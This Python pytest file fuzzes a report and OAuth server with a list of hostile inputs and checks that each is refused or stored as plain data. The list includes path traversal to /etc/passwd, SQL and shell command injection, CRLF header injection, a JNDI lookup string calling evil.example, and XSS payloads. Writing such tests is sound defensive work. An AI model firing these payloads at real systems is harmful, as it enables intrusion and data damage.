"""Hostile input everywhere that input is taken: it comes back as a refusal or as data, and reaches nothing raw."""

from __future__ import annotations

import csv
import io
import json
import socket
from collections.abc import Iterator
from itertools import product
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

import pytest
import sqlalchemy as sa

import asking
from factories import publish
from patience import until
from support import Server, result_when_over, serving, whohas
from whohas.db.engine import create_engine
from whohas.warehouse.store import Warehouse

HOSTILE = [
    "../../../../etc/passwd",
    "..\\..\\boot.ini",
    "%2e%2e%2f%2e%2e%2fetc",
    "a\r\nX-Injected: yes",
    "a\nlevel: forged",
    "'; DROP TABLE run; --",
    '" OR "1"="1',
    "$(touch injected)",
    "`touch injected`",
    "; touch injected",
    "| touch injected",
    "\0",
    "a\0b",
    "x" * 8_000,
    "\u202egnp.exe",
    "\uff0e\uff0e\uff0fetc",
    "ＡＣＣＯＵＮＴＳ",  # noqa: RUF001 - letters that look like others are the point
    "\ufeff",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "%s%s%n",
    "-1",
    "null",
]
RUN = "0" * 32


@pytest.fixture(scope="module")
def target(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    home: Path = tmp_path_factory.mktemp("target") / "home"
    publish(Warehouse(home / "warehouse"), [{"id": "ad", "name": "Active Directory"}])
    with serving(home) as server:
        until((home / "audit.ndjson").exists)  # the log begins with the client that was made, a moment after the start
        yield server


def in_paths(value: str) -> Iterator[dict[str, Any]]:
    coded = quote(value, safe="")
    yield {"method": "GET", "url": f"/v2025/reports/{coded}/result"}
    yield {"method": "GET", "url": f"/reports/v1/{coded}?fileFormat=csv"}
    yield {"method": "POST", "url": f"/v3/reports/{coded}/cancel"}
    yield {"method": "GET", "url": f"/{coded}"}


def in_queries(value: str) -> Iterator[dict[str, Any]]:
    yield {"method": "GET", "url": f"/v2025/reports/{RUN}", "params": {"fileFormat": value}}
    yield {"method": "GET", "url": f"/v2025/reports/{RUN}", "params": {"fileFormat": "csv", "name": value}}
    yield {"method": "GET", "url": f"/v2025/reports/{RUN}/result", "params": {"completed": value}}
    yield {"method": "GET", "url": "/oauth/authorize", "params": {"client_id": value, "redirect_uri": value}}


def in_bodies(value: str) -> Iterator[dict[str, Any]]:
    for body in (
        {"reportType": value},
        {"reportType": "ACCOUNTS", "arguments": {"application": value}},
        {"reportType": "ACCOUNTS", "arguments": {"sourceName": value}},
        {"reportType": "ACCOUNTS", "arguments": {"sourceName": "Active Directory", "selectedFormats": [value]}},
        {"reportType": "IDENTITY_PROFILE_IDENTITY_ERROR", "arguments": {"authoritativeSource": value}},
        {"reportType": "SEARCH_EXPORT", "arguments": {"query": "name:a", "indices": [value]}},
        {"reportType": "SEARCH_EXPORT", "arguments": {"query": "name:a", "columns": value}},
        {"reportType": "SEARCH_EXPORT", "arguments": {"query": "name:a", "sort": [value]}},
        {"reportType": "ACCOUNTS", "arguments": {value: value}},
    ):
        yield {"method": "POST", "url": "/v2025/reports/run", "json": body}


def in_tokens(value: str) -> Iterator[dict[str, Any]]:
    usual = {"grant_type": "client_credentials", "client_id": "f" * 32, "client_secret": "x"}
    for name in (*usual, "scope"):
        yield {"method": "POST", "url": "/oauth/token", "data": {**usual, name: value}}
    code = {"grant_type": "authorization_code", "client_id": value, "code": value, "redirect_uri": value}
    yield {"method": "POST", "url": "/oauth/token", "data": {**code, "code_verifier": value}}
    yield {"method": "POST", "url": "/oauth/authorize", "data": {"client_id": value, "user": value, "password": value}}


def test_nothing_hostile_gets_through_raw(target: Server, record_property: pytest.RecordProperty) -> None:
    before = _everything(target.home.parent)
    tried = 0
    with target.http() as http:
        for value, place in product(HOSTILE, (in_paths, in_queries, in_bodies, in_tokens)):
            for request in place(value):
                response = http.request(**request)
                tried += 1
                # an index or a column that is unknown is told of in the run, as the contract has it
                least = 200 if request["url"].endswith("/run") else 400
                assert least <= response.status_code < 500, (value, request, response.text)
                assert "x-injected" not in response.headers
                assert "49" not in response.headers.get("content-disposition", "")
                if response.headers["content-type"].startswith("text/html"):
                    assert "<script" not in response.text
    print(f"{len(HOSTILE)} hostile values, {tried} requests")
    record_property("tried", tried)
    assert tried > 500
    assert _everything(target.home.parent) == before, "a file appeared"
    assert not (Path.cwd() / "injected").exists()
    _log_is_whole(target)
    _database_is_whole(target)


@pytest.mark.parametrize(
    "name", ["Authorization", "Accept", "Content-Type", "User-Agent", "Range", "If-None-Match", "X-Forwarded-For", "Host",
             "SLPT-Request-ID", "Cookie", "Expect", "Content-Length", "Transfer-Encoding"],
)  # fmt: skip
def test_hostile_headers_are_refused_or_mean_nothing(target: Server, name: str) -> None:
    for value in HOSTILE:
        lines = [f"GET /v2025/reports/{RUN}/result HTTP/1.1", f"{name}: {value}", "Connection: close"]
        if name != "Host":
            lines.append("Host: x")
        answer = _raw(target, "\r\n".join([*lines, "", ""]).encode("utf-8", "replace"))
        head = answer.partition(b"\r\n\r\n")[0]
        assert b"X-Injected" not in head
        assert not answer or int(answer.split(b" ", 2)[1]) in (400, 401, 404, 405, 413, 431, 501), (value, answer)
    assert asking.get(f"{target.url}/healthz").status_code == 200
    _log_is_whole(target)


@pytest.mark.parametrize(
    "line",
    [
        b"GET /v2025/reports/../../../etc/passwd HTTP/1.1",
        b"GET /v2025/reports/%2e%2e/%2e%2e/result HTTP/1.1",
        b"GET /v2025/reports/\x00/result HTTP/1.1",
        b"GET /v2025/reports/\xff\xfe/result HTTP/1.1",
        b"GET http://evil.example/oauth/info HTTP/1.1",
        b"GET /healthz/..%2foauth/info HTTP/1.1",
        b"GET //healthz/../oauth/info HTTP/1.1",
        b"GET /healthz;/oauth/info HTTP/1.1",
        b"GET /OAUTH/INFO HTTP/1.1",
        b"GET /" + b"a" * 100_000 + b" HTTP/1.1",
        b"\x16\x03\x01\x02\x00\x01",
    ],
)
def test_odd_request_lines_open_nothing(target: Server, line: bytes) -> None:
    answer = _raw(target, line + b"\r\nHost: x\r\nConnection: close\r\n\r\n")
    assert not answer or int(answer.split(b" ", 2)[1]) in (400, 401, 404, 431), answer[:200]
    assert asking.get(f"{target.url}/healthz").status_code == 200


def test_hostile_names_in_loaded_data_stay_data(tmp_path: Path) -> None:
    home = tmp_path / "home"
    names = [name for name in HOSTILE if "\0" not in name and len(name) < 1000]
    sources = [{"id": f"s{number}", "name": name, "accountAttributes": names} for number, name in enumerate(names)]
    accounts = [
        {
            "id": f"a{number}", "nativeIdentity": name, "name": name, "sourceId": f"s{number}", "correlated": False,
            "attributes": [(attribute, [f"{attribute} of {number}"]) for attribute in names],
        }
        for number, name in enumerate(names)
    ]  # fmt: skip
    publish(Warehouse(home / "warehouse"), sources, accounts)
    before = _everything(tmp_path)
    with serving(home) as server, server.http() as http:
        for number, name in list(enumerate(names))[:8]:
            arguments = {"application": f"s{number}", "sourceName": name, "selectedFormats": ["CSV"]}
            run = http.post("/v2025/reports/run", json={"reportType": "ACCOUNTS", "arguments": arguments}).json()
            assert result_when_over(http, run["id"])["status"] == "SUCCESS"
            text = http.get(f"/v2025/reports/{run['id']}", params={"fileFormat": "csv", "name": name}).text
            (row,) = csv.DictReader(io.StringIO(text, newline=""))
            assert row["name"] == name
            for attribute in names:
                assert f"{attribute} of {number}" in row.values()
        _log_is_whole(server)
        _database_is_whole(server)
    outside = {path for path in _everything(tmp_path) - before if home not in path.parents}
    assert not outside


def test_every_answer_carries_the_security_headers(target: Server) -> None:
    with target.http() as http:
        for path in (
            "/healthz",
            "/oauth/info",
            "/openapi.json",
            "/nothing",
            "/.well-known/jwks.json",
            "/oauth/authorize",
        ):
            headers = http.get(path).headers
            assert headers["X-Content-Type-Options"] == "nosniff", path
            assert headers["X-Frame-Options"] == "DENY"
            assert headers["Referrer-Policy"] == "no-referrer"
            assert headers["Cross-Origin-Resource-Policy"] == "same-origin"
            assert "default-src 'none'" in headers["Content-Security-Policy"]
            assert "frame-ancestors 'none'" in headers["Content-Security-Policy"]
            assert "server" not in headers
            assert "strict-transport-security" not in headers, "it is not served over HTTPS"


def _everything(root: Path) -> set[Path]:
    moving = ("whohas.db", "server.log", "keys", "artefacts", "warehouse", "spill", "index")
    return {
        path for path in root.rglob("*") if not any(part.startswith(moving) for part in path.relative_to(root).parts)
    }


def _raw(server: Server, request: bytes) -> bytes:
    parts = urlsplit(server.url)
    assert parts.hostname
    assert parts.port
    with socket.create_connection((parts.hostname, parts.port), 30) as connection:
        answer = b""
        try:
            connection.sendall(request)
            connection.shutdown(socket.SHUT_WR)
            while part := connection.recv(65_536):
                answer += part
        except ConnectionError:
            pass
    return answer


def _log_is_whole(server: Server) -> None:
    lines = server.log.read_text().splitlines()
    for line in lines:
        if line.startswith("whohas serves "):
            continue
        entry = json.loads(line)
        assert "forged" not in entry
        assert entry["level"] != "error", entry
    assert all(ord(letter) >= 32 for line in lines for letter in line)


def _database_is_whole(server: Server) -> None:
    with create_engine(f"sqlite:///{server.home / 'whohas.db'}").connect() as connection:
        assert connection.execute(sa.text("SELECT count(*) FROM run")).scalar_one() >= 0
        assert connection.execute(sa.text("SELECT count(*) FROM client")).scalar_one() == 1


def test_a_hostile_mapping_is_rejected_or_reads_only_its_file(tmp_path: Path) -> None:
    home = tmp_path / "home"
    folder = tmp_path / "data"
    folder.mkdir()
    (folder / "people.csv").write_text("login\nann\n")
    for number, value in enumerate(HOSTILE):
        if "\0" in value:
            continue
        mapping = folder / f"{number}.toml"
        quoted = json.dumps(value)
        mapping.write_text(
            f'[source]\nname = {quoted}\n[accounts]\nfile = "people.csv"\n[accounts.columns]\n'
            f'nativeIdentity = "login"\nname = {quoted}\n'
        )
        done = whohas(home, "load", mapping)
        assert done.returncode in (0, 1, 2), (value, done.stderr)
        assert "Traceback" not in done.stderr, (value, done.stderr)
        if number >= 6:
            break
    assert not (Path.cwd() / "injected").exists()
